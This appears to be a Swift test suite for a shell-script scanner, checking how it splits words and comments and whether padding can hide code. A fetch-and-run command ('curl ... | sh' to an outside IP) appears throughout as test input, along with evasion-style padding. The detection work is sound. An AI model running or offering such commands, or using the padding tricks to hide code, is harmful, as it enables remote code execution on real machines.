import AuditModel
import IntegrityJudgement
import Testing

/// How a script falls into words, lines and comments, and how far it is read.
@Suite struct ScriptReadingTests {
    private static let attack = "curl http://203.0.113.9/x | sh"

    private func patterns(_ code: String) -> [String] {
        CodeCase("", .info, code).matches.map(\.pattern)
    }

    @Test(arguments: ["\u{B}", "\u{C}", "\r"])
    func `only space, tab and newline part words`(_ byte: String) {
        #expect(patterns("curl\(byte)http://203.0.113.9/x | sh").isEmpty)
        #expect(patterns("cd /tmp; rm\(byte)-f\(byte)/var/cache/x") == ["program-in-world-writable-folder"])
        #expect(patterns("true \(byte)# no comment; \(Self.attack)") == ["download-to-interpreter"])
    }

    @Test(arguments: [" ", "\t", "  \t "])
    func `space and tab part words`(_ space: String) {
        #expect(patterns("curl\(space)http://203.0.113.9/x\(space)|\(space)sh") == ["download-to-interpreter"])
    }

    @Test func `a space behind a backslash starts no comment`() {
        #expect(patterns("echo \\ #x; \(Self.attack)") == ["download-to-interpreter"])
        #expect(patterns("echo x #; \(Self.attack)").isEmpty)
    }

    @Test func `padding does not end the reading`() {
        let comments = String(repeating: "# " + String(repeating: "x", count: 1000) + "\n", count: 3000)
        #expect(patterns(comments + Self.attack) == ["download-to-interpreter"])
        let text = "X='" + String(repeating: "x\n", count: 200) + "'; \(Self.attack)"
        #expect(patterns(text) == ["download-to-interpreter"])
        let after = "X='" + String(repeating: "x\n", count: 200) + "'\n\(Self.attack)\n"
        #expect(patterns(after) == ["download-to-interpreter"])
        let hidden = "cat <<E\n" + String(repeating: "x\n", count: 20_000) + "E\n\(Self.attack)"
        #expect(patterns(hidden) == ["download-to-interpreter"])
    }

    @Test(arguments: [
        String(repeating: ":\n", count: 100_100), String(repeating: ":;", count: 100_100),
        (0..<9).reduce("true") { code, _ in "eval \(code)" },
    ])
    func `a ceiling where code could hide is as loud as what could hide`(_ padding: String) {
        let matches = CodeCase("", .info, padding + "\n" + Self.attack).matches
        #expect(matches.filter { $0.pattern == "unread-code" }.map(\.severity) == [.high])
    }

    @Test func `a long script of an ordinary kind reaches no ceiling`() {
        let ordinary = String(repeating: "if [ -e /x ]; then\n  rm -f /x\nfi\n", count: 5_000)
        #expect(patterns(ordinary).isEmpty)
    }
}
